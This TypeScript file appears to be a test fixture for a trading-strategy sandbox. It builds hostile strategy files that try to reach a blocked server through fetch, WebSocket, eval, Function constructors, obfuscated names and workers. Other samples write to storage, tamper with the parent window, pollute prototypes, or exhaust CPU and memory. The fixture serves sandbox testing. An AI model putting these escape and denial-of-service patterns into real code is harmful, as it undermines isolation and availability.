/** Files of code that try to get out, to keep something, to bend the results, or to take all there is. */

/** What each does, by its name, with the address of a server that nobody may reach. */
const REACHES: Readonly<Record<string, (url: string) => string>> = {
  fetch: url => `fetch('${url}/fetch')`,
  'a request by its name': url => `globalThis['fe' + 'tch'](new Request('${url}/named'))`,
  XMLHttpRequest: url => `const x = new XMLHttpRequest(); x.open('GET', '${url}/xhr', false); x.send()`,
  WebSocket: url => `new WebSocket('${url.replace('http', 'ws')}/ws')`,
  EventSource: url => `new EventSource('${url}/events')`,
  WebTransport: url => `new WebTransport('${url.replace('http', 'https')}/transport')`,
  'a peer connection': url =>
    `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${url.slice(7)}' }] }).createOffer()`,
  'a beacon': url => `navigator.sendBeacon('${url}/beacon', 'x')`,
  'an import': url => `import('${url}/import.js').catch(() => {})`,
  importScripts: url => `importScripts('${url}/scripts.js')`,
  'a picture': url => `new Image().src = '${url}/picture.png'`,
  'a font': url => `new FontFace('f', 'url(${url}/font.woff2)').load()`,
  'a worker in a worker': url =>
    `new Worker(URL.createObjectURL(new Blob(["fetch('${url}/nested')"], { type: 'text/javascript' })))`,
  'a shared worker': url => `new SharedWorker('${url}/shared.js')`,
  'a function from text': url => `[].constructor.constructor('return fetch("${url}/function")')()`,
  'an async function from text': url => `(async () => {}).constructor('await fetch("${url}/async")')()`,
  eval: url => `eval('fetch("${url}/eval")')`,
  'a timer from text': url => `setTimeout('fetch("${url}/timer")', 0)`,
  'a module from a Blob': url => `import('data:text/javascript,fetch("${url}/data")').catch(() => {})`,
  indexedDB: () => `indexedDB.open('stolen')`,
  localStorage: () => `localStorage.setItem('stolen', '1')`,
  caches: () => `caches.open('stolen')`,
  'the private file system': () =>
    `navigator.storage.getDirectory().then(d => d.getFileHandle('stolen', { create: true }))`,
  'a cookie': () => `document.cookie = 'stolen=1'; cookieStore.set('stolen', '1')`,
  'a channel to the page': () => `new BroadcastChannel('sauda-erase').postMessage('done')`,
  'the window above': () => `parent.document.body.remove(); top.location.href = 'about:blank'`,
  'a lock of the page': () => `navigator.locks.request('sauda-device', { steal: true }, () => {})`,
  'a flood of messages': () => `for (let k = 0; k < 1e5; k++) postMessage({ k })`,
  'a flood by channels': () =>
    `for (let k = 0; k < 1e4; k++) new MessageChannel().port1.postMessage(new Float64Array(1000))`,
  'its own end': () => `close(); self.close()`,
  'its own answer': () => `onmessage = null; addEventListener('message', e => e.ports[0].postMessage(1))`,
  'another push': () => `Array.prototype.push = () => { for (;;); }`,
  'another fill': () => `Float64Array.prototype.fill = function () { return this }`,
  'a polluted object': () =>
    `Object.prototype.then = (done: any) => done(7); (Object.prototype as any).ok = true`,
  'another then': () => `Promise.prototype.then = () => { throw new Error('no') }`,
  'another port': () => `MessagePort.prototype.postMessage = function () { for (;;); }`,
  'the stack of the engine': () =>
    `(Error as any).prepareStackTrace = (_: any, s: any) => s[1].getThis(); new Error().stack`,
  'another JSON': () => `JSON.stringify = () => 'x'; Map.prototype.get = () => 1 as any`,
  'a getter that throws': () =>
    `Object.defineProperty(globalThis, 'Float64Array', { get() { throw new Error('no') } })`,
  'a clock': () =>
    `console.log(Date.now(), new Date(), performance.now(), new (Object.getPrototypeOf(new Date(0)).constructor)())`,
  'a flood of the console': () => `for (let k = 0; k < 2e5; k++) console.log('x'.repeat(1000), k)`,
  'a deep recursion': () => `const f = (): number => 1 + f(); f()`,
}

/** A strategy of code that reaches as it is read and again in a run. */
function reaching(name: string, deed: string): string {
  return `import { defineStrategy } from 'sauda'
const attempt: any = (deed: any) => { try { deed() } catch (error) { console.log(String(error)) } }
const reach: any = () => { ${deed} }
reach()
export default defineStrategy({
  id: 'hostile', title: ${JSON.stringify(`Tries ${name}`)}, summary: 'Tries.', params: {},
  start: ({ broker }) => { reach(); return i => { if (i === 5) reach(); if (i === 7) broker.buy() } },
})
`
}

/** Files that are read, and run, and reach nothing; so many deeds in each. */
export function reachingFiles(url: string, deeds: number): readonly { name: string; code: string }[] {
  const all = Object.entries(REACHES)
  return Array.from({ length: Math.ceil(all.length / deeds) }, (_, k) => {
    const some = all.slice(k * deeds, (k + 1) * deeds)
    const name = `${some[0]![0]}${some.length > 1 ? ` and ${some.length - 1} more` : ''}`
    const code = some.map(([, deed]) => `attempt(() => { ${deed(url)} })`).join('\n')
    return { name, code: reaching(name, code) }
  })
}

const NEVER_ENDS: Readonly<Record<string, string>> = {
  'a loop without an end': 'for (;;);',
  'promises without an end': 'const again = (): any => Promise.resolve().then(again); again()',
  'an expression without an end': `/^(a+)+$/.test('a'.repeat(60) + 'b')`,
  'memory in buffers': 'const all: any[] = []; for (;;) all.push(new Float64Array(1e8).fill(1))',
  'memory in objects': 'const all: any[] = []; for (;;) all.push({ all: [all.length, {}, []] })',
}

/** Files that take all there is as soon as they are read. */
export const ENDLESS_READS = Object.entries(NEVER_ENDS).map(([name, deed]) => ({
  name,
  code: `import { defineStrategy } from 'sauda'\n${deed}\n${reaching(name, '')}`,
}))

/** Files that take all there is in a run. */
export const ENDLESS_RUNS = Object.entries(NEVER_ENDS)
  // these do not hold up the bars, only what comes after them
  .filter(([name]) => !name.startsWith('promises'))
  .map(([name, deed]) => ({ name, code: reaching(name, '').replace('broker.buy()', `{ ${deed} }`) }))

/** Files that are no strategies. */
export const REFUSED: Readonly<Record<string, string>> = {
  'ten megabytes': `// ${'x'.repeat(10_000_000)}`,
  'a getter for its name': `export default { start() {}, get id() { throw new Error('no') } }`,
  'a proxy that never answers': `export default new Proxy({ start() {} }, { get() { throw new Error('no') } })`,
  'a library': `import fs from 'node:fs'\nexport default {}`,
}
